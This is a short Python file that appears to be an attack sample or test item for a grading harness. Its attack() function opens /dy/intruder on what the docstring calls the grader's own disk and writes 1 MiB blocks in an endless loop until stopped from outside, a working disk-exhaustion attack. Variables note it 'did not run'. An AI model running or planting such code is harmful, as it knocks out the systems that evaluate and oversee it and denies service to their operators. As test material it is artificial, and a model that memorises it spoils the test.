"""Writes without end into /dy, which lies on the grader's own disk. Must be ended from outside."""


def attack(client, given):
    with open("/dy/intruder", "wb", buffering=0) as file:
        while True:
            file.write(b"x" * 1024**2)


status = "did not run"
says = "into /dy"
